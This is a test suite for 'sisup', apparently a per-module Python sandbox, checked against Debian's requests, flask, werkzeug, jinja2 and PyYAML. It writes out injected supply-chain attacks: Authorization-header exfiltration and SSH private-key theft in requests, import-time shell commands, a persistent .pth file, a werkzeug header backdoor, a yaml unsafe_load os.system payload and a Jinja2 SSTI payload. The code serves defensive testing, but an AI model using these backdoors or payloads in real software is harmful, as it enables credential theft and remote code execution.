"""Real packages (issue 8): Debian's requests, urllib3, flask, werkzeug,
jinja2 and PyYAML under policies a user would write.

Each scenario runs a program of programs/packages/ under `sisup run` with a
narrow policy (written here, with the ports picked for the run) and checks
that normal use works: the program's output, the responses a server gave,
and no denial beyond the expected ones. Then misbehaviour is injected the way
a supply-chain compromise would do it: into a COPY of the real package (put
before dist-packages on PYTHONPATH), by a string replacement in a real
function, wrapped in try/except so the application keeps working. Every
misbehaviour test runs the injected program bare too, as a control: the
misbehaviour must really happen without sisup (a file on disk, data at the
attacker's server), and must not happen under sisup, whose denial line must
name the package and the capability it lacked. The application's own output
is the same in all three runs (normal, injected bare, injected under sisup).

The packages are Debian's (python3-requests 2.28, python3-urllib3 1.26,
python3-flask 2.2, python3-werkzeug 2.2, python3-jinja2 3.1, python3-yaml 6.0,
in /usr/lib/python3/dist-packages), imported by every interpreter of the
matrix through PYTHONPATH: an absolute PYTHONPATH entry is third-party for
sisup, so `default: []` confines the packages a policy does not name (idna,
certifi, charset_normalizer, chardet, click, itsdangerous, markupsafe...).
What each policy grants is what `sisup learn` and the audit report showed the
package needs, narrowed with argument rules.
"""
import os
import re
import select
import shutil
import socket
import socketserver
import subprocess
import threading
import http.client
import urllib.parse
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from conftest import PYTHONS, _py_id, need, run, wait_for

DIST = "/usr/lib/python3/dist-packages"
PROGS = Path(__file__).resolve().parent / "programs" / "packages"
PKGS = PROGS / "pkgs"
TEMPLATES = PKGS / "shopviews" / "templates"
TIMEOUT = 180  # a whole program run, on a loaded 2-core machine


@pytest.fixture(scope="module", autouse=True)
def _debian_packages():
    for pkg in ("requests", "urllib3", "flask", "werkzeug", "jinja2", "yaml"):
        need((Path(DIST) / pkg / "__init__.py").is_file(),
             f"{DIST}/{pkg}: Debian's package (tests/install-deps.sh installs it)")


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def env_for(home, *before):
    """The environment of a run: a throw-away HOME, PYTHONPATH = the injected
    copies (if any), then dist-packages. No bytecode is written (nothing into
    the repository, nothing into dist-packages for the other interpreters);
    no proxy: everything is on 127.0.0.1."""
    env = {k: v for k, v in os.environ.items()
           if not k.startswith("PYTHON") and "proxy" not in k.lower()}
    home.mkdir(parents=True, exist_ok=True)
    env.update(HOME=str(home), PYTHONPATH=":".join([*map(str, before), DIST]),
               PYTHONDONTWRITEBYTECODE="1")
    return env


def write_policy(tmp_path, text):
    p = tmp_path / "policy.yaml"
    p.write_text(text)
    return str(p)


def denials(stderr):
    """The `sisup: denied ...` lines (without the stacks)."""
    return [l for l in stderr.splitlines() if re.match(r"sisup: (denied|killed) ", l)]


def has_denial(stderr, what, module, cap):
    pat = rf"^sisup: denied {what} \(pid \d+\): module '{re.escape(module)}' lacks {cap}$"
    return any(re.match(pat, l) for l in denials(stderr))


def copy_package(dst_root, name):
    """A copy of Debian's package NAME under dst_root (the attacker's copy)."""
    shutil.copytree(Path(DIST) / name, dst_root / name,
                    ignore=shutil.ignore_patterns("__pycache__"))
    return dst_root / name


def patch(path, anchor, new):
    """Replace ANCHOR (which must occur exactly once) in PATH by NEW."""
    text = path.read_text()
    assert text.count(anchor) == 1, f"anchor not found once in {path}: {anchor!r}"
    path.write_text(text.replace(anchor, new))


# ---------------------------------------------------------------- requests

REQUESTS_OUT = """\
GET with params and token: 30/30 ok
POST json: 201 {'got': {'items': [1, 2, 3, 4]}, 'sum': 10}
redirect: 200 /echo?moved=1 history=[302] {'moved': '1'}
server saw 33 requests, all with the token: True
"""

# What the audit report shows requests and urllib3 doing: a TCP connection to
# the server, and at import urllib3's IPv6 probe (a bind of [::1]:0, with
# requests on the stack since requests imports urllib3). Nothing else in
# dist-packages needs anything.
REQUESTS_POLICY = """\
version: 1
default: []            # idna, certifi, charset_normalizer, chardet...: baseline and import
modules:
  requests:
    allow: [{{net-connect: ["127.0.0.1:{port}"]}}, {{net-listen: ["[::1]:0"]}}]
  urllib3:
    allow: [{{net-connect: ["127.0.0.1:{port}"]}}, {{net-listen: ["[::1]:0"]}}]
"""


class Attacker:
    """A TCP server outside sisup that records what it receives."""

    def __init__(self):
        got = self.got = []

        class H(socketserver.StreamRequestHandler):
            def handle(self):
                got.append(self.rfile.read())

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), H)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def inject_requests(root, attack, ctx):
    """Copy requests to root and plant ATTACK in a real function. ctx: paths
    and ports the attack uses (a real attacker hard-codes them)."""
    pkg = copy_package(root, "requests")
    if attack == "exfiltrate":
        # every request's Authorization header also goes to the attacker
        patch(pkg / "sessions.py", "    def send(self, request, **kwargs):\n", f"""\
    def send(self, request, **kwargs):
        try:
            import socket as _s
            _c = _s.create_connection(("127.0.0.1", {ctx['attacker']}), timeout=5)
            _c.sendall(str(request.headers.get("Authorization")).encode() + b"\\n")
            _c.close()
        except Exception:
            pass
""")
    elif attack == "ssh-key":
        # a new Session copies the user's private key somewhere readable
        patch(pkg / "sessions.py", "    def __init__(self):\n", f"""\
    def __init__(self):
        try:
            import os as _os
            with open(_os.path.expanduser("~/.ssh/id_rsa")) as _f:
                _k = _f.read()
            with open({str(ctx['loot'])!r}, "w") as _f:
                _f.write(_k)
        except Exception:
            pass
""")
    elif attack == "import-shell":
        # a command at import time
        patch(pkg / "__init__.py", "from .status_codes import codes\n", f"""\
from .status_codes import codes

try:
    import os as _os
    _os.system("touch {ctx['marker']} 2>/dev/null")
except Exception:
    pass
""")
    elif attack == "persistence":
        # a .pth file in the user's site directory: code run by every later
        # Python started by this user
        patch(pkg / "utils.py", 'def default_user_agent(name="python-requests"):\n', f"""\
def default_user_agent(name="python-requests"):
    try:
        import os as _os, site as _site
        _d = _site.getusersitepackages()
        _os.makedirs(_d, exist_ok=True)
        with open(_os.path.join(_d, "requests-telemetry.pth"), "w") as _f:
            _f.write("import os; os.system('touch {ctx['marker']}')\\n")
    except Exception:
        pass
""")
    else:
        raise AssertionError(attack)


def run_requests(sisup, python, tmp_path, home, before=(), bare=False, port=None):
    port = port or free_port()
    prog = [python, str(PROGS / "requests_app.py"), str(port)]
    if not bare:
        policy = write_policy(tmp_path, REQUESTS_POLICY.format(port=port))
        prog = [sisup, "run", "-p", policy, "--", *prog]
    return run(prog, env=env_for(home, *before), cwd=str(tmp_path), timeout=TIMEOUT)


def test_requests_normal_use(sisup, python, tmp_path):
    r = run_requests(sisup, python, tmp_path, tmp_path / "home")
    assert r.returncode == 0, r.stdout + r.stderr
    assert r.stdout == REQUESTS_OUT, r.stdout + r.stderr
    assert denials(r.stderr) == [], r.stderr


ATTACKS = ["exfiltrate", "ssh-key", "import-shell", "persistence"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_requests_injected(sisup, python, tmp_path, attack):
    attacker = Attacker()
    try:
        results = {}
        for mode in ("bare", "sisup"):
            d = tmp_path / mode
            home = d / "home"
            (home / ".ssh").mkdir(parents=True)
            (home / ".ssh" / "id_rsa").write_text("-----BEGIN FAKE KEY-----\nxyzzy\n")
            ctx = {"attacker": attacker.port, "loot": d / "loot.txt",
                   "marker": d / "marker"}
            inject_requests(d / "evil", attack, ctx)
            attacker.got.clear()
            r = run_requests(sisup, python, d, home, before=[d / "evil"], bare=mode == "bare")
            # the application's own work is untouched either way
            assert r.returncode == 0, f"{mode}:\n{r.stdout}{r.stderr}"
            assert r.stdout == REQUESTS_OUT, f"{mode}:\n{r.stdout}{r.stderr}"
            if attack == "exfiltrate":
                # one connection per request (33): wait until they are all in
                if mode == "bare":
                    wait_for(lambda: len(attacker.got) >= 33, timeout=30)
                results[mode] = list(attacker.got)
            elif attack == "ssh-key":
                results[mode] = ctx["loot"].read_text() if ctx["loot"].exists() else None
            elif attack == "import-shell":
                results[mode] = ctx["marker"].exists()
            else:
                site = list(home.glob(".local/lib/python3*/site-packages/requests-telemetry.pth"))
                # the .pth really persists: a later bare Python of this user runs it
                run([python, "-c", "pass"], env=env_for(home), cwd=str(d), timeout=TIMEOUT)
                results[mode] = (len(site), ctx["marker"].exists(),
                                 (home / ".local").exists())
            results[mode + "-stderr"] = r.stderr
    finally:
        attacker.close()

    bare, confined, err = results["bare"], results["sisup"], results["sisup-stderr"]
    assert denials(results["bare-stderr"]) == []
    if attack == "exfiltrate":
        assert bare and all(x == b"Bearer s3cr3t-t0ken\n" for x in bare), bare
        assert confined == [], confined
        assert has_denial(err, rf"connect 127\.0\.0\.1:{attacker.port}", "requests", "net-connect"), err
    elif attack == "ssh-key":
        assert bare == "-----BEGIN FAKE KEY-----\nxyzzy\n", bare
        assert confined is None
        assert has_denial(err, r"open \S*/sisup/home/\.ssh/id_rsa for reading", "requests", "fs-read"), err
    elif attack == "import-shell":
        assert bare is True
        assert confined is False
        assert has_denial(err, "new process", "requests", "spawn"), err
    else:
        assert bare == (1, True, True), bare
        assert confined == (0, False, False), confined
        assert has_denial(err, r"mkdir \S*/sisup/home/\.local", "requests", "fs-write"), err
    # nothing but the injected misbehaviour was denied
    assert all("module 'requests' lacks" in l for l in denials(err)), err


# ----------------------------------------------------------------- urllib3

URLLIB3_POLICY = """\
version: 1
default: []
modules:
  urllib3:
    allow: [{{net-connect: ["127.0.0.1:{port}"]}}, {{net-listen: ["[::1]:0"]}}]
"""


@pytest.mark.parametrize("mode", ["bare", "sisup"])
def test_urllib3_one_port(sisup, python, tmp_path, mode):
    """A PoolManager confined to one port: it fetches from that one; a
    connection to another port of the same host fails with EPERM (bare: it
    works, so the policy is what stops it)."""
    port, other = free_port(), free_port()
    prog = [python, str(PROGS / "urllib3_app.py"), str(port), str(other)]
    if mode == "sisup":
        policy = write_policy(tmp_path, URLLIB3_POLICY.format(port=port))
        prog = [sisup, "run", "-p", policy, "--", *prog]
    r = run(prog, env=env_for(tmp_path / "home"), cwd=str(tmp_path), timeout=TIMEOUT)
    assert r.returncode == 0, r.stdout + r.stderr
    lines = r.stdout.splitlines()
    assert lines[0] == "allowed port: 10/10 ok", r.stdout + r.stderr
    if mode == "bare":
        assert lines[1:] == ["other port: 200 other /x"], r.stdout
        return
    assert lines[1:] == ["other port: NewConnectionError: "
                         "Failed to establish a new connection: [Errno 1] Operation not permitted"], \
        r.stdout + r.stderr
    assert has_denial(r.stderr, rf"connect 127\.0\.0\.1:{other}", "urllib3", "net-connect"), r.stderr
    assert len(denials(r.stderr)) == 1, r.stderr


# -------------------------------------------------------------------- yaml

YAML_CONFIG = "name: shop\nport: 8080\nfeatures: [search, cart]\nlimits: {items: 20}\n"
YAML_LOADED = "loaded: {'name': 'shop', 'port': 8080, 'features': ['search', 'cart'], 'limits': {'items': 20}}"

# A parser needs nothing: `allow: []`. Debian's PyYAML also has a C extension
# (libyaml bindings, _yaml, built for 3.11 only): importing it is native-code,
# which sisup denies under `allow: []`; PyYAML then falls back to its pure
# Python parser (yaml.__with_libyaml__ is False) and sisup says so once on
# stderr. That is what we recommend: native-code would let yaml write the
# process's memory and forge frames (README, threat model). A user who wants
# the speed grants native-code; both are tested.
YAML_POLICY = """\
version: 1
default: []
modules:
  yaml:
    allow: [{grant}]
"""


@pytest.mark.parametrize("grant", ["nothing", "native-code"])
def test_yaml_safe_load(sisup, python, tmp_path, grant):
    (tmp_path / "config.yaml").write_text(YAML_CONFIG)
    policy = write_policy(tmp_path, YAML_POLICY.format(grant="" if grant == "nothing" else grant))
    r = run([sisup, "run", "-p", policy, "--", python, str(PROGS / "yaml_app.py"), "safe",
             "config.yaml"], env=env_for(tmp_path / "home"), cwd=str(tmp_path), timeout=TIMEOUT)
    assert r.returncode == 0, r.stdout + r.stderr
    c_ext = r.stdout.splitlines()[0] == "libyaml: True"
    assert r.stdout.splitlines()[1:] == [YAML_LOADED], r.stdout + r.stderr
    # the C extension is Debian's, for its python3.11
    bare = run([python, "-c", "import yaml; print(yaml.__with_libyaml__)"],
               env=env_for(tmp_path / "home"), cwd=str(tmp_path), timeout=TIMEOUT)
    available = bare.stdout.strip() == "True"
    if grant == "nothing":
        assert not c_ext
        # the refused C extension, said once; nothing else
        want = [r"sisup: denied map fd \d+ executable \(pid \d+\): module 'yaml' lacks native-code$"]
        got = denials(r.stderr)
        assert len(got) == len(want[:available]) and all(
            re.match(w, l) for w, l in zip(want, got)), r.stderr
    else:
        assert c_ext == available
        assert denials(r.stderr) == [], r.stderr


def test_yaml_unsafe_load(sisup, python, tmp_path):
    """yaml.unsafe_load of a document that runs a command: the command is a
    new process, denied to yaml (bare: it runs)."""
    made = {}
    for mode in ("bare", "sisup"):
        d = tmp_path / mode
        d.mkdir()
        marker = d / "marker"
        (d / "evil.yaml").write_text(
            f'!!python/object/apply:os.system ["touch {marker}"]\n')
        prog = [python, str(PROGS / "yaml_app.py"), "unsafe", "evil.yaml"]
        if mode == "sisup":
            prog = [sisup, "run", "-p", write_policy(d, YAML_POLICY.format(grant="")), "--", *prog]
        r = run(prog, env=env_for(d / "home"), cwd=str(d), timeout=TIMEOUT)
        assert r.returncode == 0, r.stdout + r.stderr
        made[mode] = marker.exists()
        if mode == "bare":
            assert r.stdout.splitlines()[1] == "loaded: 0", r.stdout  # os.system's status
        else:
            assert r.stdout.splitlines()[1] != "loaded: 0", r.stdout
            assert has_denial(r.stderr, "new process", "yaml", "spawn"), r.stderr
    assert made == {"bare": True, "sisup": False}, made


# ------------------------------------------------------- flask and jinja2

# The views (shopviews, on an absolute PYTHONPATH entry: third-party) run in
# werkzeug's request threads: werkzeug creates them, so they inherit werkzeug
# as a principal, and flask calls the views, which call jinja2 to render.
# Under stack semantics every one of them must allow reading a template:
# `learn` grants fs-read to all four; the user narrows it to the templates
# directory. Only the server (werkzeug) may listen, on one address, and
# resolve it (make_server calls getaddrinfo: dns). On Python 3.8 importing
# http.server (werkzeug does) reads /etc/mime.types (mimetypes.init(), at
# class creation; later versions read it lazily): learn on 3.8 adds it to
# werkzeug's fs-read, and the import fails without it. Nothing may start a
# process. The rest (click, itsdangerous, blinker, markupsafe) gets nothing;
# markupsafe's C speedups (Debian builds them for 3.11) are refused as
# native-code and it uses its pure-Python fallback: the one denial of normal
# use, printed once at import. On Python 3.8 there is a second: flask
# imports uuid, whose import calls platform.system(), which runs `uname -p`
# with stderr to /dev/null; opening /dev/null for writing is fs-write, which
# flask lacks, and platform falls back to its default (nothing is lost).
FLASK_POLICY = """\
version: 1
default: []
modules:
  werkzeug:
    allow: [dns, {{net-listen: ["127.0.0.1:{port}"]}}, {{fs-read: ["{templates}/**", /etc/mime.types]}}]
  flask:
    allow: [{{fs-read: ["{templates}/**"]}}]
  jinja2:
    allow: [{{fs-read: ["{templates}/**"]}}]
  shopviews:
    allow: [{{fs-read: ["{templates}/**"]}}]
"""
NORMAL_DENIALS = [
    r"sisup: denied map fd \d+ executable \(pid \d+\): module 'markupsafe' lacks native-code$",
    r"sisup: denied open /dev/null for writing \(pid \d+\): module 'flask' lacks fs-write$",
]


def normal_denial(line):
    return any(re.match(p, line) for p in NORMAL_DENIALS)


# Debian's werkzeug 2.2 compiles its URL rules with ast.Str, which Python
# 3.14 removed: the application cannot even be created there (bare too;
# import works, Flask() fails). The Flask tests run on the interpreters of
# the matrix before 3.14; that is a limit of the Debian package, not a skip.
FLASK_PYTHONS = [p for p in PYTHONS
                 if tuple(map(int, re.findall(r"\d+", Path(p).name)[:2] or [3, 11])) < (3, 14)]
flask_matrix = pytest.mark.parametrize("fpython", FLASK_PYTHONS,
                                       ids=[_py_id(p) for p in FLASK_PYTHONS])


def spawn_stopped(err, module):
    """The denial that stopped MODULE's command. Usually spawn. On builds
    where subprocess's C helper (_posixsubprocess) is a shared library (pyenv)
    and nothing imported subprocess before, the attack's own `import
    subprocess` runs in a request thread of a multi-threaded server, where
    the import grant does not cover mapping a stdlib extension (it holds for
    a single thread only, docs/policy.md): the command is stopped one step
    earlier, by native-code."""
    if has_denial(err, "new process", module, "spawn"):
        return True
    # the mapping denied while subprocess's top level imports its C helper
    blocks = re.findall(rf"^sisup: denied map fd \d+ executable \(pid \d+\): module "
                        rf"'{re.escape(module)}' lacks native-code\n((?:sisup:   .*\n)*)", err, re.M)
    return any(re.search(r"^sisup:   [ >] subprocess +\S+/subprocess\.py:\d+  <module>$", b, re.M)
               for b in blocks)


def expected_body(path):
    if path == "/":
        items = "".join(f"<li>{n}: item-{n}</li>" for n in range(1, 21))
        return f"<!doctype html>\n<title>shop</title>\n<main><ul>{items}</ul></main>"
    m = re.fullmatch(r"/item/(\d+)", path)
    if m:
        n = int(m.group(1))
        return (f'<!doctype html>\n<title>item-{n}</title>\n<main><p id="item">item-{n} '
                f"costs {n * n} cents &amp; &lt;ships&gt;</p></main>")
    m = re.fullmatch(r"/greet\?name=(\w+)", path)
    return f"Hello {m.group(1)}!"


class Shop:
    """flask_app.py serving at a free port, bare or under sisup, until stop()."""

    def __init__(self, sisup, python, d, before=(), bare=False):
        d.mkdir(parents=True, exist_ok=True)
        self.port = free_port()
        prog = [python, str(PROGS / "flask_app.py"), str(self.port)]
        if not bare:
            policy = write_policy(d, FLASK_POLICY.format(port=self.port,
                                                         templates=TEMPLATES.resolve()))
            prog = [sisup, "run", "-p", policy, "--", *prog]
        self.errfile = d / "stderr.txt"
        with open(self.errfile, "w") as err:
            self.proc = subprocess.Popen(prog, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                         stderr=err, text=True, cwd=str(d),
                                         env=env_for(d / "home", *before, PKGS))
        ready, _, _ = select.select([self.proc.stdout], [], [], TIMEOUT)
        line = self.proc.stdout.readline() if ready else ""
        if line != "ready\n":
            self.proc.kill()
            out, _ = self.proc.communicate()
            pytest.fail(f"server not ready: {line!r}{out}\n{self.errfile.read_text()}")

    def get(self, path, headers=None):
        c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=120)
        try:
            c.request("GET", path, headers=headers or {})
            r = c.getresponse()
            return r.status, r.read().decode()
        finally:
            c.close()

    def stop(self):
        """Close stdin (the app's signal to stop); returns (rc, stdout, stderr)."""
        try:
            out, _ = self.proc.communicate(timeout=TIMEOUT)
        except subprocess.TimeoutExpired:
            self.kill()
            raise
        return self.proc.returncode, out, self.errfile.read_text()

    def kill(self):
        if self.proc.poll() is None:
            self.proc.kill()
            self.proc.communicate()


@flask_matrix
def test_flask_normal_use(sisup, fpython, tmp_path):
    shop = Shop(sisup, fpython, tmp_path)
    try:
        paths = ["/", "/item/3", "/greet?name=ana", "/item/20"]
        got = [shop.get(p) for p in paths]
        missing = shop.get("/item/99")
    finally:
        rc, out, err = shop.stop()
    assert got == [(200, expected_body(p)) for p in paths], got
    assert missing == (404, "<!doctype html>\n<title>shop</title>\n<main><p>no item 99</p></main>")
    assert rc == 0, out + err
    assert out == "views handled 5 requests\n", out + err
    assert all(normal_denial(l) for l in denials(err)), err


@flask_matrix
def test_flask_ssti(sisup, fpython, tmp_path):
    """Server-side template injection: /greet puts user input into a template;
    the input runs a command through jinja2's globals. Bare: the command runs.
    Under sisup: the process is denied (jinja2 renders, and lacks spawn), the
    request fails with 500, the server goes on."""
    results = {}
    for mode in ("bare", "sisup"):
        d = tmp_path / mode
        marker = d / "marker"
        payload = "{{ cycler.__init__.__globals__.os.popen('touch %s').read() }}" % marker
        shop = Shop(sisup, fpython, d, bare=mode == "bare")
        try:
            attack = shop.get("/greet?name=" + urllib.parse.quote(payload))
            after = shop.get("/item/7")
        finally:
            rc, out, err = shop.stop()
        assert rc == 0, out + err
        assert out == "views handled 2 requests\n", out + err
        assert after == (200, expected_body("/item/7")), after
        results[mode] = (attack[0], marker.exists())
        if mode == "sisup":
            assert spawn_stopped(err, "jinja2"), err
    assert results == {"bare": (200, True), "sisup": (500, False)}, results


@flask_matrix
def test_flask_werkzeug_backdoor(sisup, fpython, tmp_path):
    """A compromised werkzeug (a copy, patched) runs the command in a request
    header before serving the request. Bare: it runs. Under sisup: denied to
    werkzeug, which has no spawn; the request is served normally."""
    results = {}
    for mode in ("bare", "sisup"):
        d = tmp_path / mode
        marker = d / "marker"
        pkg = copy_package(d / "evil", "werkzeug")
        patch(pkg / "serving.py", "    def run_wsgi(self) -> None:\n", """\
    def run_wsgi(self) -> None:
        try:
            _cmd = self.headers.get("X-Debug-Hook")
            if _cmd:
                import subprocess as _sp
                _sp.run(_cmd, shell=True, timeout=60)
        except Exception:
            pass
""")
        shop = Shop(sisup, fpython, d, before=[d / "evil"], bare=mode == "bare")
        try:
            got = shop.get("/item/3", {"X-Debug-Hook": f"touch {marker}"})
        finally:
            rc, out, err = shop.stop()
        assert rc == 0, out + err
        assert out == "views handled 1 requests\n", out + err
        assert got == (200, expected_body("/item/3")), got
        results[mode] = marker.exists()
        if mode == "sisup":
            assert spawn_stopped(err, "werkzeug"), err
            assert all(normal_denial(l) or "module 'werkzeug' lacks" in l
                       for l in denials(err)), err
    assert results == {"bare": True, "sisup": False}, results


@flask_matrix
def test_flask_under_load(sisup, fpython, tmp_path):
    """1,000 requests from 8 client threads (outside sisup) to the confined
    server: every one 200 with the right body, the views counted them all,
    and nothing was denied but markupsafe's speedups."""
    paths = [("/", f"/item/{i % 20 + 1}", f"/greet?name=user{i}")[i % 3] for i in range(1000)]
    shop = Shop(sisup, fpython, tmp_path)
    try:
        with ThreadPoolExecutor(8) as pool:
            got = list(pool.map(shop.get, paths))
    finally:
        rc, out, err = shop.stop()
    bad = [(p, g) for p, g in zip(paths, got) if g != (200, expected_body(p))]
    assert bad == [], f"{len(bad)} wrong answers, e.g. {bad[:3]}"
    assert rc == 0, out + err
    assert out == "views handled 1000 requests\n", out + err
    assert all(normal_denial(l) for l in denials(err)), err
